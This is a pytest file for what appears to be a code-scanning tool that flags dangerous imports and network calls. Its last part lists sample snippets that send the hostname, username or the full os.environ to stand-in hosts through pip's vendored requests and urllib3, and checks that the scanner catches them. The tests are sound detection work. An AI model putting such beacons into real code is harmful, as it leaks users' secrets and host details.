"""The survey's helpers: the nodes below a focus statement (issue 16)."""

from __future__ import annotations

import ast
import sysconfig
from pathlib import Path

import pytest

from caplet._scan._syntax import TooComplex, focus, focus_bindings, survey
from tests._scan.prefilterkit import kept_by_the_prefilter, tree_danger

SOURCE = Path(sysconfig.get_paths()["stdlib"]) / "tarfile.py"
#: What ast.walk yields that the survey never lists (and no rule visits).
_TOKENS = (ast.expr_context, ast.operator, ast.unaryop, ast.boolop, ast.cmpop)


def test_the_marked_statements_are_ast_walks_nodes_the_survey_lists() -> None:
    tree = ast.parse(SOURCE.read_text(encoding="utf-8"))
    classes = [s for s in tree.body if isinstance(s, ast.ClassDef)]
    # top-level statements, and class members, decorators and bases a level below
    roots = [
        *[s for s in tree.body if isinstance(s, ast.ClassDef | ast.FunctionDef)][:5],
        *classes[-1].body[:3],
        *classes[-1].bases,
    ]
    assert len(roots) > 6
    walked = {id(n) for r in roots for n in ast.walk(r) if not isinstance(n, _TOKENS)}
    surveyed = survey(tree, 100, 1_000_000, marked=roots)
    assert not isinstance(surveyed, TooComplex)
    assert surveyed.visited == walked
    assert walked <= {id(n) for n in surveyed.nodes}
    # the same nodes, bindings and scopes as a survey that marks nothing
    plain = survey(tree, 100, 1_000_000)
    assert not isinstance(plain, TooComplex)
    assert plain.visited is None
    assert plain.nodes == surveyed.nodes
    assert plain.scopes == surveyed.scopes
    assert plain.bindings == surveyed.bindings
    nothing = survey(tree, 100, 1_000_000, marked=[])
    assert not isinstance(nothing, TooComplex)
    assert nothing.visited == set()


def test_a_survey_too_complex_marks_nothing() -> None:
    tree = ast.parse("x = " + "-" * 300 + "1\n")
    assert isinstance(survey(tree, 100, 1_000_000, marked=list(tree.body)), TooComplex)


def test_focus_bindings_are_the_module_level_and_class_bindings() -> None:
    tree = ast.parse(
        "import os\nclass Config:\n    name = 'x'\n    def run(self):\n        y = 1\n"
        "def f():\n    z = 2\nfor k in os.environ:\n    pass\n"
    )
    bindings = focus_bindings(tree)
    assert set(bindings.imports) == {"os"}
    assert set(bindings.assigned) == {"name"}
    assert bindings.defined == {"Config", "run", "f"}
    assert set(bindings.iterated) == {"k"}
    config = tree.body[1]
    assert isinstance(config, ast.ClassDef)
    assert focus(tree, frozenset({5})) == [tree.body[0], config.body[1]]


# -- blind17: a vendored copy of a library is that library ------------------------------------

#: tune b17-re-pip-vendor-requests: a beacon sent through pip's copy of requests.
VENDORED_EGRESS = [
    "import getpass, socket\nfrom pip._vendor import requests as _rq\n"
    "_rq.get('https://oob.example/b',\n"
    "        params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
    "import os\nfrom pip._vendor.urllib3 import PoolManager\n"
    "PoolManager().request('POST', 'https://x.example/e', body=str(dict(os.environ)))\n",
    "import os\nimport pip._vendor.requests as r\n"
    "r.post('https://x.example/e', json=dict(os.environ))\n",
]


@pytest.mark.parametrize("source", VENDORED_EGRESS)
def test_a_library_imported_through_its_vendored_copy_is_that_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    kept_by_the_prefilter(tmp_path, monkeypatch, source)


def test_vendored_copies_used_as_the_library_is_used_stay_clean(tmp_path: Path) -> None:
    # pip's own code and a tool fetching the index with pip's requests: no host data sent
    (tmp_path / "mod.py").write_text(
        "from pip._vendor import requests\nfrom pip._vendor.packaging.version import Version\n"
        "def latest(name):\n"
        "    data = requests.get(f'https://pypi.org/pypi/{name}/json', timeout=5).json()\n"
        "    return max(Version(v) for v in data['releases'])\n"
    )
    assert not tree_danger(tmp_path)
